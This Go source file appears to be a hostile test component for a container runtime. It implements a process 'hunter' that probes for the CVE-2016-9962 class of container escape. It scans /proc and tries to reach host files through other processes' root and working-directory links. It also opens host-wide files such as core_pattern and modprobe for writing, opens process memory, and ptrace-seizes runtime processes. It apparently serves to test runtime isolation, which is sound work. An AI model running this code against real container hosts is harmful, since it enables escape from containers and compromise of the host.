package main

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/rkt/containerd-shim-rkt-v1/integration/hostile/loot"
)

// hunter looks at every process that it sees, again and again.
type hunter struct {
	target
	self   int
	bound  uint64         // capabilities that this container may have
	filter bool           // this container has a filter of system calls
	images map[int64]bool // sizes of what images have as programs
	number int
}

// hunt is the class of CVE-2016-9962: a process of the runtime's that is about to
// become one of a container can be seen from within. The hunter takes what it can of
// it: its root, its descriptors, its working directory, its memory, its program. With
// "once" as its argument it looks at what is there and ends.
func (t target) hunt(args []string) {
	runtime.LockOSThread() // who seizes a process is a thread
	h := &hunter{target: t, self: os.Getpid()}
	own := status("/proc/self/status")
	h.bound, _ = strconv.ParseUint(own["CapBnd"], 16, 64)
	h.filter = own["Seccomp"] == "2"
	h.know()
	ready()
	for once := slices.Contains(args, "once"); ; {
		for _, pid := range processes() {
			if pid != h.self {
				h.raid(pid)
			}
		}
		if once {
			return
		}
	}
}

// processes lists those that /proc shows, the youngest first.
func processes() (pids []int) {
	dir, err := os.Open("/proc")
	must(err)
	defer dir.Close()
	names, _ := dir.Readdirnames(-1) // what ends meanwhile is of no interest
	for _, n := range names {
		if pid, err := strconv.Atoi(n); err == nil {
			pids = append(pids, pid)
		}
	}
	slices.Sort(pids)
	slices.Reverse(pids)
	return pids
}

func (h *hunter) raid(pid int) {
	proc := fmt.Sprintf("/proc/%d/", pid)
	// What opens first is what a process has for the shortest time.
	h.takeFiles(proc)
	h.takeDescriptors(proc)
	h.takeProc(proc)
	h.takeMemory(proc)
	h.takeOver(pid, proc)
}

// takeFiles reads and creates the host's files through a root that is the host's.
func (h *hunter) takeFiles(proc string) {
	for _, dir := range []string{"root", "cwd/../../../../../../../../.."} {
		h.takeSecret(proc, dir)
		h.number++
		file := fmt.Sprintf("%s%s%s/loot-%d-%d", proc, dir, h.sticky, h.self, h.number)
		if fd, err := unix.Open(file, unix.O_CREAT|unix.O_EXCL|unix.O_WRONLY|unix.O_CLOEXEC, 0o600); err == nil {
			unix.Close(fd)
			got(loot.Write, "created through %s", name(proc)+dir)
		}
	}
}

// takeSecret reads the secret below a directory of a process.
func (h *hunter) takeSecret(proc, dir string) {
	f, err := os.Open(proc + dir + h.secret)
	if err != nil {
		return
	}
	defer f.Close()
	how := "through " + name(proc) + dir + " of " + h.describe(proc)
	if b, err := io.ReadAll(f); err == nil {
		loot.Say(os.Stdout, loot.Loot{What: loot.Read, How: how, Secret: strings.TrimSpace(string(b))})
	}
}

// takeDescriptors follows those that are directories to the secret.
func (h *hunter) takeDescriptors(proc string) {
	names, err := readNames(proc + "fd")
	if err != nil {
		return
	}
	for _, n := range names {
		h.takeSecret(proc, "fd/"+n+"/../../../../../../../../../..")
	}
}

// takeProc opens for writing what is the whole machine's.
func (h *hunter) takeProc(proc string) {
	for _, file := range []string{"sys/kernel/core_pattern", "sysrq-trigger", "sys/kernel/modprobe"} {
		if fd, err := unix.Open(proc+"root/proc/"+file, unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
			unix.Close(fd)
			got(loot.Write, "%s", name(proc)+"root/proc/"+file)
		}
	}
	for _, file := range []string{"kcore", "keys", "timer_list"} {
		b := make([]byte, 16)
		fd, err := unix.Open(proc+"root/proc/"+file, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		if n, err := unix.Read(fd, b); n > 0 && err == nil {
			got(loot.Read, "%s", name(proc)+"root/proc/"+file)
		}
		unix.Close(fd)
	}
}

// takeMemory opens the memory of a process that has more than the container.
func (h *hunter) takeMemory(proc string) {
	fd, err := unix.Open(proc+"mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	// What is asked only now is as it was when the memory was opened, or a process has
	// less meanwhile: it becomes a container's.
	if why := h.more(proc); why != "" {
		got(loot.Process, "the memory of %s, %s", h.describe(proc), why)
	}
}

// more says what a process of the runtime's has more than this container. To trace
// those of containers that have no more is no loot.
func (h *hunter) more(proc string) string {
	theirs := status(proc + "status")
	if caps, err := strconv.ParseUint(theirs["CapPrm"], 16, 64); err == nil && caps&^h.bound != 0 {
		return "with capabilities " + theirs["CapPrm"]
	}
	if h.filter && theirs["Seccomp"] == "0" {
		return "without a filter of system calls"
	}
	if !h.foreign(proc) {
		return ""
	}
	names, _ := readNames(proc + "fd")
	for _, n := range names {
		link, _ := os.Readlink(proc + "fd/" + n)
		if strings.HasPrefix(link, "socket:") || strings.Contains(link, "cgroup") {
			return "with a descriptor of " + strings.TrimRight(link, ":[]0123456789")
		}
	}
	return ""
}

// know notes the programs of containers. All have the same, each in a file system of
// its own: their sizes tell them from the runtime's.
func (h *hunter) know() {
	h.images = map[int64]bool{}
	for _, program := range []string{"/bin/attacker", "/bin/busybox"} {
		var st unix.Stat_t
		must(unix.Stat(program, &st))
		h.images[st.Size] = true
	}
}

// foreign reports whether the program of a process is seen, and none of a container's.
func (h *hunter) foreign(proc string) bool {
	var st unix.Stat_t
	return unix.Stat(proc+"exe", &st) == nil && !h.images[st.Size]
}

// takeOver seizes a process. To be allowed that is no loot by itself: other processes
// of the container may be seized.
func (h *hunter) takeOver(pid int, proc string) {
	if unix.PtraceSeize(pid) != nil {
		return
	}
	if why := h.more(proc); why != "" {
		got(loot.Process, "seized %s, %s", h.describe(proc), why)
	}
	// A detach wants the process stopped. One that has ended must be waited for: as long as
	// its tracer has not, its parent, the runtime's supervisor, cannot.
	_ = unix.PtraceInterrupt(pid)
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err == nil && ws.Stopped() {
		_ = unix.PtraceDetach(pid) // it may have been killed
	}
}

// describe is the command line of a process that may have ended.
func (h *hunter) describe(proc string) string {
	b, _ := os.ReadFile(proc + "cmdline")
	exe, _ := os.Readlink(proc + "exe")
	return strings.TrimSpace(strings.ReplaceAll(string(b), "\x00", " ")) + " (" + filepath.Base(exe) + ")"
}

// name is a path below /proc without the number, which differs from run to run.
func name(proc string) string {
	if proc == "/proc/1/" {
		return proc
	}
	return "/proc/PID/"
}

func readNames(dir string) ([]string, error) {
	f, err := os.Open(dir)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return f.Readdirnames(-1)
}

// status reads a /proc/PID/status.
func status(file string) map[string]string {
	b, _ := os.ReadFile(file)
	all := map[string]string{}
	for line := range strings.Lines(string(b)) {
		if k, v, ok := strings.Cut(line, ":"); ok {
			all[k] = strings.TrimSpace(v)
		}
	}
	return all
}
